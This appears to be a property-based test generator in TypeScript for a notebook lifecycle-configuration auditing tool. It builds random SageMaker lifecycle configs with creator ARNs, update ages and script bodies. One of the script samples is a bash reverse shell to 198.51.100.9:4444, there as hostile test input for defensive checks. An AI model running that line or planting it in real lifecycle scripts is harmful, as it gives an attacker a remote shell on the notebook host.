/** Any lifecycle configuration of notebooks, with any past. */
import fc from 'fast-check';
import { given, maybe, type Part } from './any.ts';

const { constantFrom } = fc;

const PEOPLE = [
  'arn:aws:sts::111122223333:assumed-role/DataScientist/ana',
  'arn:aws:sts::111122223333:assumed-role/Platform/eve',
  'arn:aws:iam::111122223333:role/platform/Deploy',
  'arn:aws:iam::111122223333:user/ben',
  'arn:aws:sts::111122223333:assumed-role/mlwarden-notebook-lifecycle-script/mlwarden-notebook-lifecycle-script',
];
const script = constantFrom(
  'pip install pandas\n',
  'pip install polars\n',
  'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n',
  '\u0000\u00ff',
  null,
);
const scripts = { OnCreate: maybe(script), OnStart: maybe(script) };
/** How long ago it was made, and how long ago it can have been written since. */
const AGES: Readonly<Record<string, readonly string[]>> = {
  '1m': ['50s', '20s', '5s'],
  '2h': ['90m', '55m', '20m', '20s'],
  '30d': ['20d', '2h', '61m', '59m', '1m'],
  '120d': ['100d', '90d', '89d', '88d', '3h', '5m'],
};

export const lifecycleConfig = (n: number): fc.Arbitrary<Part> =>
  constantFrom(...Object.entries(AGES)).chain(([age, times]) =>
    fc
      .record({
        createdBy: maybe(constantFrom(...PEOPLE)),
        ...scripts,
        updates: fc.tuple(
          ...times.map((ago) =>
            maybe(
              fc
                .record({ ago: fc.constant(ago), by: constantFrom(...PEOPLE), ...scripts, untold: maybe(fc.constant(true)) })
                .map((update) => given(update)),
            ),
          ),
        ),
      })
      .map(({ updates, ...is }) => ({
        lifecycleConfigs: [
          { ...given(is), age, updates: updates.filter((u) => u !== undefined), NotebookInstanceLifecycleConfigName: `Setup-${n}` },
        ],
      })),
  );
